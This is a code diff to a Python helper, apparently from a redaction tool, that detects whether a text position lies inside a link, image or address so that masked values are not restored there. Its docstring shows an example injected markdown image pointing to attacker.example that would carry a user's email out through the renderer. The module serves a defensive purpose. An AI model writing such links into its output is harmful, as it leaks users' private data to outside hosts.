@@ -1,7 +1,8 @@
 """Whether a place in a text is inside a link, an image or an address (RED-PH-7).
 
 A model can be told to write `![](https://attacker.example/?q=[EMAIL_...])`: what a client then restores there, its
-renderer sends away. So nothing is restored between the beginning of a link and its end. The machine errs on the side
+renderer sends away. So nothing is restored between the beginning of a link and its end, nor behind a host that has a
+path or a query without `https://` before it, which many clients make a link as well. The machine errs on the side
 of "inside": a value that is not restored does no harm.
 """
 
@@ -13,10 +14,10 @@ from typing import Final
 _TOKEN: Final = re.compile(
     r"\]\(|url\(|[/\\]{2}|https?:|www\.|<(?:"
     r"a|area|audio|base|body|embed|form|iframe|image|img|input|link|meta|object|script|source|svg|table|td|track|video"
-    r""")(?![A-Za-z0-9])|[\s"'`<>()]""",
+    r""")(?![A-Za-z0-9])|(?:\.[a-z]{2,10}|\d\.\d{1,3})(?::\d{1,5})?[/?#]|[\s"'`<>()]""",
     re.IGNORECASE | re.ASCII,
 )
-_LONGEST_TOKEN: Final = 16
+_LONGEST_TOKEN: Final = 18
 _BATCH_CHARACTERS: Final = 4096
 _CLOSERS: Final = {'"': '"', "'": "'", "`": "`", "<": ">", "(": ")"}
 _SPACE: Final = " "
